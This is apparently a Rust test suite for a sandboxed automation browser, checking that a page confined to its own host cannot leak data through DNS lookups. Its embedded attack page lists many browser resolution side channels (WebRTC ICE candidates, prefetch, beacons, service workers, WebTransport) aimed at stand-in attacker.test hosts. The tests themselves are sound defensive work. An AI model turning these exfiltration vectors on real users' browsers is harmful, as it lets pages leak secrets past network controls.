//! A page that may reach its own host alone tells another one a secret by the names that it has
//! resolved.

use std::fs;
use std::path::PathBuf;
use std::time::Duration;

use rustix::process::{Pid, Signal, kill_process};
use telechir_browser::{Browser, Options, OwnNetwork, Surface};
use telechir_device::{DeviceError, PageContextSource as _};
use telechir_egress::Egress;
use telechir_policy::{NetworkClient, Policy};
use telechir_testkit::assert_eventually;
use tokio::time::{Instant, sleep};

use super::machine::{
    datagrams_sent, forbid_bubblewrap, is_own, run_on_own_machine, run_with_own_bubblewrap,
    run_without_bubblewrap,
};
use crate::common::{CHROMIUM, SIZE, click, go, launched_with, options, perform};
use crate::server::{Answer, Server};

const PATIENCE: Duration = Duration::from_secs(30);

/// Everything that makes a browser resolve a name, without a secret for brevity.
const PAGE: &str = r#"<!doctype html><body onclick="window.open('http://popup.attacker.test/')">
<link rel=dns-prefetch href="//prefetch-name.attacker.test">
<link rel=preconnect href="https://preconnect.attacker.test">
<link rel=prefetch href="http://prefetch.attacker.test/x">
<link rel=stylesheet href="http://style.attacker.test/x">
<link rel=icon href="http://icon.attacker.test/x">
<link rel=manifest href="http://manifest.attacker.test/x">
<script type=speculationrules>{"prefetch":[{"urls":["http://speculated.attacker.test/"],"eagerness":"immediate"}],
"prerender":[{"urls":["/prerendered"],"eagerness":"immediate"}]}</script>
<img src="http://image.attacker.test/x"><iframe src="http://frame.attacker.test/"></iframe>
<a id=ping href="/pinged" ping="http://ping.attacker.test/" target=pinged>ping</a><iframe name=pinged></iframe>
<script>
const late = ms => new Promise(done => setTimeout(done, ms));
const tried = async attempt => { try { await attempt() } catch {} };
const servers = ['stun:stun.attacker.test', 'stun:stun.attacker.local'].map(urls => ({ urls })).concat(
  ['turn:udp.attacker.test?transport=udp', 'turn:tcp.attacker.test?transport=tcp', 'turns:tls.attacker.test']
    .map(urls => ({ urls, username: 'u', credential: 'p' })));
const rtc = async () => {
  const [a, b] = [new RTCPeerConnection({ iceServers: servers }), new RTCPeerConnection({ iceServers: servers })];
  a.createDataChannel('x');
  await a.setLocalDescription(await a.createOffer());
  await b.setRemoteDescription(a.localDescription);
  await b.setLocalDescription(await b.createAnswer());
  await a.setRemoteDescription(b.localDescription);
  const names = ['candidate.attacker.test', '0b7e2b4c-6f0e-4c53-9d8e-1d2b3c4d5e6f.local', 'secret.local'];
  for (const name of names) for (const peer of [a, b]) for (const kind of ['udp', 'tcp']) {
    const end = kind === 'tcp' ? 'tcptype passive' : '';
    const candidate = `candidate:1 1 ${kind} 2122260223 ${name} 9000 typ host ${end}`;
    await tried(() => peer.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 }));
  }
  await late(2500);
};
(async () => {
  ping.click();
  navigator.sendBeacon('http://beacon.attacker.test/', 'x');
  await Promise.race([late(8000), Promise.all([
    tried(rtc),
    tried(() => fetch('http://fetch.attacker.test/')),
    tried(() => fetch('https://fetch-tls.attacker.test/')),
    tried(() => new Promise(done => new WebSocket('ws://socket.attacker.test/').onerror = done)),
    tried(() => new WebTransport('https://transport.attacker.test/').ready),
    tried(() => new PaymentRequest([{ supportedMethods: 'https://pay.attacker.test/' }],
      { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()),
    tried(() => new Promise(done => new EventSource('http://events.attacker.test/').onerror = done)),
    tried(() => navigator.serviceWorker.register('/worker.js')),
  ])]);
  document.title = 'done';
})();
</script>"#;

fn answer(path: &str) -> Option<Answer> {
    Some(match path {
        "/page" => {
            let mut page = Answer::page(PAGE);
            page.head += "link: <https://header.attacker.test>; rel=preconnect\r\n\
                          x-dns-prefetch-control: on\r\n\
                          alt-svc: h3=\"alternative.attacker.test:443\"\r\n";
            page
        }
        "/worker.js" => {
            let script = b"fetch('http://worker.attacker.test/')";
            Answer::file("text/javascript", script)
        }
        _ => Answer::page("ok"),
    })
}

fn egress(server: &Server) -> Egress {
    let url = server.url("");
    let port = url.rsplit_once(':').unwrap().1;
    let text = format!(
        "[[url]]\nhost = ['127.0.0.1']\nport = [{port}]\nverdict = 'allow'\nreason = 'The page.'\n\
         [[url]]\nhost = ['*.attacker.test', '*.local']\nverdict = 'deny'\nreason = 'The attacker.'\n"
    );
    let policy = Policy::from_toml(&text, "test").unwrap();
    Egress::new(policy.gate(NetworkClient::Browser))
}

async fn is_done(browser: &mut Browser) -> bool {
    let tabs = browser.page_context().await.unwrap().tabs;
    tabs.iter().any(|tab| tab.title == "done")
}

/// Shows the page, clicks on it and names hosts in actions; returns how many datagrams were sent.
async fn attacked(server: &Server, options: Options) -> u64 {
    let before = datagrams_sent();
    let mut browser = launched_with(options).await;
    go(&mut browser, &server.url("/page")).await.unwrap();
    perform(&mut browser, click(5, 5)).await.unwrap();
    let deadline = Instant::now() + PATIENCE;
    while !is_done(&mut browser).await {
        assert!(Instant::now() < deadline, "the page is not done");
        sleep(Duration::from_millis(50)).await;
    }
    for url in [
        "http://typed.attacker.test/",
        "https://typed-tls.attacker.test/",
    ] {
        let _refused = go(&mut browser, url).await;
    }
    browser.close().await.unwrap();
    datagrams_sent() - before
}

fn programs() -> [Option<PathBuf>; 2] {
    // The headless shell, if installed, and Chromium.
    [None, Some(CHROMIUM.into())]
}

async fn assert_sent_at_most(most: u64, own_network: OwnNetwork) {
    let server = Server::start(answer).await;
    for program in programs() {
        let sent = attacked(
            &server,
            Options {
                egress: Some(egress(&server)),
                own_network,
                program: program.clone(),
                ..options()
            },
        )
        .await;
        assert!(sent <= most, "{sent} datagrams of {program:?}");
    }
}

const NAME: &str = "attacks::name_resolution";

#[tokio::test]
async fn no_name_of_a_page_is_resolved() {
    if !is_own() {
        return run_on_own_machine(&format!("{NAME}::no_name_of_a_page_is_resolved"));
    }
    assert_sent_at_most(0, OwnNetwork::Required).await;
}

#[tokio::test]
async fn no_name_of_a_page_is_resolved_by_flags_alone() {
    if !is_own() {
        let name = format!("{NAME}::no_name_of_a_page_is_resolved_by_flags_alone");
        return run_on_own_machine(&name);
    }
    // One multicast asks for `~NOTFOUND`, whatever names the page has.
    assert_sent_at_most(1, OwnNetwork::Off).await;
}

/// Shows that the page of the tests above has names resolved, where it can.
#[tokio::test]
async fn without_the_proxy_the_names_of_a_page_are_resolved() {
    if !is_own() {
        let name = format!("{NAME}::without_the_proxy_the_names_of_a_page_are_resolved");
        return run_on_own_machine(&name);
    }
    let server = Server::start(answer).await;
    let hurried = Options {
        navigation_timeout: Duration::from_secs(4),
        ..options()
    };
    assert!(attacked(&server, hurried).await > 10);
}

#[tokio::test]
async fn a_browser_that_cannot_have_a_namespace_reports_it() {
    if !is_own() {
        let name = format!("{NAME}::a_browser_that_cannot_have_a_namespace_reports_it");
        return run_without_bubblewrap(&name);
    }
    let server = Server::start(answer).await;
    let weaker = Options {
        egress: Some(egress(&server)),
        ..options()
    };
    let required = Options {
        own_network: OwnNetwork::Required,
        ..weaker.clone()
    };
    let refused = Browser::launch(Surface::Headless(SIZE), required).await;
    let error = refused.unwrap_err().to_string();
    assert!(error.contains("bwrap"), "{error}");
    let mut browser = launched_with(weaker).await;
    let why = browser.shares_network().unwrap_or_default().to_owned();
    assert!(why.contains("bwrap"), "{why}");
    go(&mut browser, &server.url("/other")).await.unwrap();
    browser.close().await.unwrap();
}

/// A page that exhausts what a namespace needs, and then crashes the browser, would win otherwise.
#[tokio::test]
async fn a_browser_is_not_relaunched_without_the_namespace_that_it_had() {
    if !is_own() {
        let name = format!("{NAME}::a_browser_is_not_relaunched_without_the_namespace_that_it_had");
        return run_with_own_bubblewrap(&name);
    }
    let server = Server::start(answer).await;
    let mut browser = launched_with(Options {
        egress: Some(egress(&server)),
        own_network: OwnNetwork::IfPossible,
        ..options()
    })
    .await;
    assert_eq!(browser.shares_network(), None);
    go(&mut browser, &server.url("/other")).await.unwrap();
    let crash = async |browser: &mut Browser| {
        let pids = processes_inside(browser);
        let first = pids.first().copied().and_then(Pid::from_raw).unwrap();
        kill_process(first, Signal::KILL).unwrap();
        let url = server.url("/other");
        let error = assert_eventually!(go(browser, &url).await, |done| done.is_err());
        error.unwrap_err()
    };
    let error = crash(&mut browser).await;
    assert!(matches!(error, DeviceError::Restarted { .. }), "{error:?}");
    assert_eq!(browser.shares_network(), None);
    forbid_bubblewrap();
    let error = crash(&mut browser).await;
    assert!(
        matches!(error, DeviceError::Disconnected { .. }),
        "{error:?}"
    );
    for _ in 0..3 {
        let again = go(&mut browser, &server.url("/other")).await.unwrap_err();
        assert!(
            matches!(again, DeviceError::Disconnected { .. }),
            "{again:?}"
        );
    }
    let group = browser.pid().map(crate::isolation::group);
    assert!(group.is_none_or(|pids| pids.is_empty()));
    let _nothing_is_left_to_close = browser.close().await;
}

/// The group's processes without bubblewrap, which waits outside of the namespaces.
fn processes_inside(browser: &Browser) -> Vec<i32> {
    let pids = crate::isolation::group(browser.pid().unwrap());
    let is_inside = |pid: &i32| {
        let name = fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
        name.starts_with("chrom")
    };
    pids.into_iter().filter(is_inside).collect()
}

#[tokio::test]
async fn no_process_of_a_browser_has_an_interface_besides_loopback() {
    let server = Server::start(answer).await;
    for program in programs() {
        let mut browser = launched_with(Options {
            egress: Some(egress(&server)),
            own_network: OwnNetwork::Required,
            program,
            ..options()
        })
        .await;
        assert_eq!(browser.shares_network(), None);
        go(&mut browser, &server.url("/other")).await.unwrap();
        let pids = processes_inside(&browser);
        assert!(pids.len() > 2, "{pids:?}");
        for pid in pids {
            let Ok(interfaces) = fs::read_to_string(format!("/proc/{pid}/net/dev")) else {
                continue; // It has exited.
            };
            let names = interfaces
                .lines()
                .skip(2)
                .filter_map(|line| line.split_once(':'));
            let names: Vec<&str> = names.map(|(name, _)| name.trim()).collect();
            assert!(names.iter().all(|name| *name == "lo"), "{pid}: {names:?}");
        }
        browser.close().await.unwrap();
    }
}

/// Resolvers with a socket in `/run`, such as systemd-resolved and Avahi, answer from any network.
#[tokio::test]
async fn a_browser_sees_no_service_of_the_machine() {
    let server = Server::start(answer).await;
    let browser = launched_with(Options {
        egress: Some(egress(&server)),
        own_network: OwnNetwork::Required,
        ..options()
    })
    .await;
    let first = processes_inside(&browser)[0];
    let seen = fs::read_dir(format!("/proc/{first}/root/run")).unwrap();
    let seen: Vec<_> = seen.map(|entry| entry.unwrap().file_name()).collect();
    let programs = ["current-system", "opengl-driver"];
    assert!(
        seen.iter()
            .all(|name| programs.iter().any(|known| name == known)),
        "{seen:?}"
    );
    browser.close().await.unwrap();
}
